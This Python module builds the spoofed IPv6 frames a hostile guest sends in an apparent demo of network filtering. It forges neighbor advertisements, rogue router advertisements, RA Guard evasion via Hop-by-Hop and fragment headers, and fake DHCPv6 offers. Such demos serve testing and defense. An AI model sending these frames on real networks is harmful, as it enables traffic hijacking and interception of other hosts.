"""The IPv6 frames that a hostile guest sends in the demo, as in frames.py: correct except for their lie."""

import ipaddress
import struct

from frames import checksum, ethernet, ip_bytes, mac_bytes

IPV6 = 0x86DD
HOP_BY_HOP, UDP, FRAGMENT, ICMPV6, DESTINATION_OPTIONS = 0, 17, 44, 58, 60
NOBODY, EVERYBODY = "::", "ff02::1"
OPTION_NOTHING = bytes([1, 4, 0, 0, 0, 0])      # PadN: fills an options header of 8 octets
ADVERTISE = 2                                   # RFC 8415 7.3
LINK_ADDRESS_OF_SOURCE, LINK_ADDRESS_OF_TARGET = 1, 2


def link_local(mac):
    """The address that an interface makes of its MAC address (RFC 4291 appendix A)."""
    octets = mac_bytes(mac)
    identifier = bytes([octets[0] ^ 2]) + octets[1:3] + b"\xff\xfe" + octets[3:]
    return str(ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + identifier))


def solicited_node(address):
    return str(ipaddress.IPv6Address(ip_bytes("ff02::1:ff00:0")[:13] + ip_bytes(address)[13:]))


def group_mac(group):
    return "33:33:" + ip_bytes(group)[12:].hex(":")


def packet(macs, ips, protocol, payload, hop_limit=255):
    """`macs` and `ips` are (source, destination); the destination's MAC is None for a group's."""
    header = struct.pack("!IHBB", 6 << 28, len(payload), protocol, hop_limit) + ip_bytes(ips[0]) + ip_bytes(ips[1])
    return ethernet(macs[1] or group_mac(ips[1]), macs[0], IPV6, header + payload)


def with_checksum(ips, protocol, message, at):
    """The message with its checksum, which covers the addresses as well, put in at this place."""
    pseudo = ip_bytes(ips[0]) + ip_bytes(ips[1]) + struct.pack("!II", len(message), protocol)
    return message[:at] + struct.pack("!H", checksum(pseudo + message) or 0xFFFF) + message[at + 2:]


def udp(macs, ips, source_port, destination_port, payload):
    message = struct.pack("!HHHH", source_port, destination_port, 8 + len(payload), 0) + payload
    return packet(macs, ips, UDP, with_checksum(ips, UDP, message, 6), hop_limit=64)


def icmp(macs, ips, message):
    return packet(macs, ips, ICMPV6, with_checksum(ips, ICMPV6, message, 2))


def link_address_option(kind, mac):
    return bytes([kind, 1]) + mac_bytes(mac)


# --- neighbors (RFC 4861 4.3, 4.4) ------------------------------------------------------------------------------------

def neighbor_advertisement(mac, target, to_mac=None, to=EVERYBODY):
    """Says that `target`, a router, is at this MAC address, whatever was known before (flags R and O)."""
    message = struct.pack("!BBHI", 136, 0, 0, 0xA0000000) + ip_bytes(target) + \
        link_address_option(LINK_ADDRESS_OF_TARGET, mac)
    return icmp((mac, to_mac), (target, to), message)


def duplicate_address_detection(mac, target):
    """Says that we are about to take this address, and asks a host that has a right to it to object."""
    return icmp((mac, None), (NOBODY, solicited_node(target)), struct.pack("!BBHI", 135, 0, 0, 0) + ip_bytes(target))


# --- routers (RFC 4861 4.2) -------------------------------------------------------------------------------------------

def advertisement(mac, prefix):
    """(addresses, ICMPv6 message): take me for your router, rather than others (RFC 4191 2.2), and this prefix."""
    ips = link_local(mac), EVERYBODY
    message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + \
        struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + ip_bytes(prefix) + \
        link_address_option(LINK_ADDRESS_OF_SOURCE, mac)
    return ips, with_checksum(ips, ICMPV6, message, 2)


def router_advertisement(mac, prefix):
    ips, message = advertisement(mac, prefix)
    return packet((mac, None), ips, ICMPV6, message)


def hidden_router_advertisement(mac, prefix):
    """Behind a Hop-by-Hop header: a filter that looks only at the first header sees no ICMPv6 (RFC 7113 2.1)."""
    ips, message = advertisement(mac, prefix)
    return packet((mac, None), ips, HOP_BY_HOP, bytes([ICMPV6, 0]) + OPTION_NOTHING + message)


def fragmented_router_advertisement(mac, prefix, identification):
    """In two frames, the first with nothing but an empty options header, so that none of them is seen to be one
    (RFC 7113 2.2)."""
    ips, message = advertisement(mac, prefix)
    options, more = bytes([ICMPV6, 0]) + OPTION_NOTHING, 1

    def fragment(offset, flags, part):
        header = struct.pack("!BBHI", DESTINATION_OPTIONS, 0, offset | flags, identification)     # RFC 8200 4.5
        return packet((mac, None), ips, FRAGMENT, header + part)
    return [fragment(0, more, options), fragment(len(options), 0, message)]


# --- DHCPv6 (RFC 8415) ------------------------------------------------------------------------------------------------

def dhcp_advertise(mac, client_mac, address, transaction):
    """Answers like a DHCPv6 server that has this address to give."""
    def option(code, content):
        return struct.pack("!HH", code, len(content)) + content
    server = option(2, struct.pack("!HH", 3, 1) + mac_bytes(mac))
    lease = option(5, ip_bytes(address) + struct.pack("!II", 600, 600))
    message = struct.pack("!I", ADVERTISE << 24 | transaction) + server + \
        option(3, struct.pack("!III", 1, 300, 480) + lease)
    return udp((mac, client_mac), (link_local(mac), link_local(client_mac)), 547, 546, message)
